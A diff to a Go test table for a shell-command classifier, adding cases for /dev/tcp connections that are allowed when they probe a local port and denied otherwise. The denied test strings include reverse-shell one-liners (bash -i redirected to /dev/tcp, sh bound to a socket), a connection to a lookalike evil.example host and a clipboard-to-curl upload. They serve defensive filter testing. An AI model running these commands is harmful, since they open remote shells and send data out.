@@ -128,6 +128,15 @@ var classTests17 = []classTest{
 	{"clipboard-to-network", `wl-paste | gzip | curl -T - https://x.example/u`, Deny},
 	{"clipboard-to-network", `pbpaste | jq -r .id`, Allow},
 	{"clipboard-to-network", `git log -1 --format=%H | xclip -selection clipboard`, Allow},
+
+	// Text sent through /dev/tcp to a port of this machine, by no shell.
+	{"dev-tcp-local", `exec 4<>/dev/tcp/localhost/6379 && printf 'PING\r\n' >&4 && head -c 7 <&4`, Allow},
+	{"dev-tcp-local", `echo > /dev/tcp/127.0.0.1/5432 && echo up || echo down`, Allow},
+	{"dev-tcp-local", `exec 3<>/dev/tcp/127.0.0.1/9000; sh <&3 >&3 2>&3`, Deny},
+	{"dev-tcp-local", `bash -i >& /dev/tcp/localhost/4444 0>&1`, Deny},
+	{"dev-tcp-local", `exec 3<>/dev/tcp/198.51.100.8/443`, Deny},
+	{"dev-tcp-local", `echo hi > /dev/tcp/127.0.0.1.evil.example/80`, Deny},
+	{"dev-tcp-local", `exec 3<>/dev/tcp/$H/80`, Deny},
 }
 
 func TestClasses17(t *testing.T) { checkClasses(t, classTests17) }
